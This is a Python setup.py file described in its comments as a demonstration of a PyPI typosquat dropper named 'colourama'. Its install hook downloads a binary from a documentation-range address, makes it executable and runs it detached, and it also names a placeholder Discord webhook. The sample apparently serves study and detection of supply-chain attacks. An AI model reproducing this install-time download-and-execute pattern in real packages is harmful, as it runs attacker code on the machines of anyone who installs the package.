# A demonstration of a typosquat dropper, shaped like the colorama look-alikes seen on
# PyPI. It is never run by customs; its addresses are documentation addresses (TEST-NET) and a placeholder webhook.
import os
import subprocess
import sys
import tempfile
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        url = "https://discord.com/api/webhooks/000000/demo-only"
        payload = urllib.request.urlopen("http://203.0.113.9/update.bin").read()
        path = os.path.join(tempfile.gettempdir(), "colourama-update")
        with open(path, "wb") as fh:
            fh.write(payload)
        os.chmod(path, 0o755)
        subprocess.Popen([path], start_new_session=True)


setup(
    name="colourama",
    version="0.4.7",
    packages=["colourama"],
    cmdclass={"install": PostInstall},
)
